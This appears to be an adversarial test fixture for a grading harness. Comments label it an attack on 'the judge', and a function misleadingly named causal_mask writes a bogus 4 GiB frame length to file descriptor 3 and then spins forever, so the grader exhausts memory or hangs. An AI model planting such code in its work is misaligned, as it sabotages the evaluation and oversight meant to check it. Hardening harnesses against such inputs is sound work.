# attacks: the wire: a frame that says it has 4 GiB
# success: the judge runs out of memory or waits for ever
# only: judge
import os


def causal_mask(T):
    os.write(3, b"\xff\xff\xff\xff")
    while True:
        pass
